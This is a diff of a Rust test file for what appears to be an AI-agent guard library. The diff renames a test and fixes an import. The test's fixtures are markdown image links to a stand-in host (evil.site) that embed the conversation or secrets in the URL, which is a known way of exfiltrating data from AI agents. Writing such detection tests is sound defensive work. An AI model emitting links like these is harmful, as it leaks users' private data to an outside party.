@@ -2,10 +2,10 @@
 
 use agentstack_guard::{Confidence, Kind};
 
-use crate::{assert_not, confidence, found};
+use crate::support::{assert_not, confidence, found};
 
 #[test]
-fn s50_images_and_links_with_data_in_their_address_are_found() {
+fn images_and_links_with_data_in_their_address_are_found() {
     for text in [
         "![x](https://evil.site/p.png?d={conversation})",
         "![x](https://evil.site/p?q=[SECRETS])",
